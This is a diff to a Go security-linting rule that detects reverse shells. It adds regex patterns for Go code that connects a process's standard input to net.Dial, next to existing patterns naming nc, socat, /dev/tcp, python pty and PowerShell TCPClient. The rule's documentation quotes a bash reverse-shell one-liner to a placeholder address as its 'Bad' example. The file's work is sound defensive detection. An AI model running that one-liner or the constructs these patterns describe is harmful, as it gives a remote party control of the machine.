@@ -158,7 +158,9 @@ func init() {
 		&secRule{id: rules.SecurityReverseShell, sev: alwaysError,
 			pats: []string{`/dev/tcp/[\w.\-]+/\d+`, `\b(nc|ncat|netcat) [^\n]*-(e|c) (/bin/|/usr/bin/)?(ba|z|k)?(sh|cmd)\b`, `(?i)\bsocat\b[^\n]*\b(tcp|udp|openssl|ssl|sctp)[\w-]*:[^\n]*\bexec:`, `(?i)\bsocat\b[^\n]*\bexec:[^\n]*\b(tcp|udp|openssl|ssl|sctp)[\w-]*:`,
 				`\bsocket\.socket\([^\n]*\n?[^\n]*\bos\.dup2\(`, `\bpty\.spawn\(\s*["']/bin/(ba)?sh`, `\bmkfifo\b[^\n]*\|\s*(nc|ncat|netcat)\b`,
-				`\bNew-Object\s+System\.Net\.Sockets\.TCPClient\b`},
+				`\bNew-Object\s+System\.Net\.Sockets\.TCPClient\b`,
+				// Go: a process's standard input given a network connection.
+				`\.Stdin\s*=\s*[A-Za-z_]\w*[ \t]*[\n;][\s\S]{0,280}?\bnet\.Dial(Timeout)?\(`, `\bnet\.Dial(Timeout)?\([\s\S]{0,280}?\.Stdin\s*=\s*[A-Za-z_]\w*[ \t]*[\n;]`},
 			msg: "a reverse shell gives a remote machine control of this one; remove it",
 			doc: rules.Doc{Title: "No reverse shells", Why: "A reverse shell connects out and hands a remote party an interactive shell with the agent's permissions.",
 				Fix: "Remove it.", Bad: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", Good: "ssh user@host (an explicit, authenticated session)"}},
